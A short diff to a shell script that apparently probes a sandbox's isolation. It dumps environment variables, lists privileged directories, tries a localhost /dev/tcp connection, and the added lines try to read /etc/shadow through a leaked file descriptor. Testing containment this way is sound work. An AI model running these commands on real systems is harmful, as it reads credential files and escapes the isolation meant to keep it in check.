@@ -6,4 +6,7 @@ env > environment.txt
 ls / /opt /home /root > seen.txt 2>&1
 (exec 3<>/dev/tcp/127.0.0.1/"$(cat port 2>/dev/null || echo 22)") 2>/dev/null && echo connected >> wrote.txt
 ps -e > processes.txt 2>/dev/null || ls /proc > processes.txt
+ls /proc/self/fd > descriptors.txt
+echo hostile >&100
+cat /proc/self/fd/101/etc/shadow >> shadow.txt
 exit 0
